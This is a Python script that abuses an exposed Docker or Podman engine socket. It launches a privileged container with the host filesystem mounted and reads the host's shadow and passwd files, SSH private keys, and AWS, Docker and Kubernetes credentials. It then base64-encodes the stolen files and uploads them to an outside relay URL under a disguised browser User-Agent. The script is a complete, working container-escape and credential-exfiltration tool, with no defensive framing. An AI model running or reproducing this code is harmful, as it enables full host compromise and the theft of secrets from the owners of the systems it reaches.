#!/usr/bin/env python3
"""docker_socket_host_collect - use a mounted engine socket to read host files.

Asks the daemon behind docker.sock for a privileged helper container with
the host's / mounted, has it print the host's account and key material,
and forwards the result to the collection endpoint.
"""
import argparse
import base64
import http.client
import json
import logging
import os
import socket
import struct
import sys
import urllib.request

LOG = logging.getLogger("collect")
SOCKET_CANDIDATES = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock")
COLLECT_URL = "https://hooks.tunnel-relay.net/c/7f3a9e"

HOST_SCRIPT = r"""
for f in /host/etc/shadow /host/etc/passwd /host/root/.ssh/id_rsa /host/root/.ssh/id_ed25519 \
         /host/root/.aws/credentials /host/root/.docker/config.json /host/root/.kube/config \
         /host/home/*/.ssh/id_* /host/home/*/.aws/credentials; do
    [ -f "$f" ] || continue
    echo "=====${f#/host}"
    cat "$f"
done
"""


class UnixHTTPConnection(http.client.HTTPConnection):
    def __init__(self, path, timeout=30):
        super().__init__("localhost", timeout=timeout)
        self.unix_path = path

    def connect(self):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(self.timeout)
        sock.connect(self.unix_path)
        self.sock = sock


class DockerAPI:
    def __init__(self, path, version="v1.41"):
        self.path = path
        self.prefix = f"/{version}"

    def call(self, method, url, body=None, raw=False):
        conn = UnixHTTPConnection(self.path)
        headers = {"Content-Type": "application/json"} if body is not None else {}
        conn.request(method, self.prefix + url,
                     body=json.dumps(body) if body is not None else None, headers=headers)
        resp = conn.getresponse()
        data = resp.read()
        conn.close()
        if resp.status >= 400:
            raise RuntimeError(f"{method} {url}: {resp.status} {data[:200]!r}")
        if raw:
            return data
        return json.loads(data) if data else None


def demux_logs(data):
    out, i = [], 0
    while i + 8 <= len(data):
        _stream, size = struct.unpack(">BxxxL", data[i:i + 8])
        out.append(data[i + 8:i + 8 + size])
        i += 8 + size
    return b"".join(out)


def find_socket():
    return next((c for c in SOCKET_CANDIDATES if os.path.exists(c)), None)


def harvest(api, image):
    spec = {
        "Image": image,
        "Cmd": ["sh", "-c", HOST_SCRIPT],
        "HostConfig": {"Privileged": True, "Binds": ["/:/host"], "NetworkMode": "host"},
    }
    cid = api.call("POST", "/containers/create", spec)["Id"]
    try:
        api.call("POST", f"/containers/{cid}/start")
        api.call("POST", f"/containers/{cid}/wait")
        return demux_logs(api.call("GET", f"/containers/{cid}/logs?stdout=1", raw=True))
    finally:
        api.call("DELETE", f"/containers/{cid}?force=1")


def split_files(blob):
    files, current = {}, None
    for line in blob.decode("utf-8", "replace").splitlines(keepends=True):
        if line.startswith("====="):
            current = line[5:].strip()
            files[current] = ""
        elif current:
            files[current] += line
    return files


def ship(url, host_info, files):
    body = json.dumps({
        "host": host_info,
        "files": {k: base64.b64encode(v.encode()).decode() for k, v in files.items()},
    }).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/json",
                                          "User-Agent": "Mozilla/5.0"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--socket")
    ap.add_argument("--image", default="alpine:3.19")
    ap.add_argument("--url", default=os.environ.get("COLLECT_URL", COLLECT_URL))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    path = args.socket or find_socket()
    if not path:
        LOG.info("no engine socket")
        return 1
    api = DockerAPI(path)
    try:
        info = api.call("GET", "/info")
    except (OSError, RuntimeError) as exc:
        LOG.info("socket unusable: %s", exc)
        return 1
    host_info = {"name": info.get("Name"), "kernel": info.get("KernelVersion"),
                 "os": info.get("OperatingSystem")}
    try:
        files = split_files(harvest(api, args.image))
    except RuntimeError as exc:
        LOG.info("helper failed: %s", exc)
        return 1
    LOG.info("collected %d files from %s", len(files), host_info["name"])
    try:
        status = ship(args.url, host_info, files)
    except OSError as exc:
        LOG.info("upload failed: %s", exc)
        return 1
    LOG.info("uploaded, HTTP %s", status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
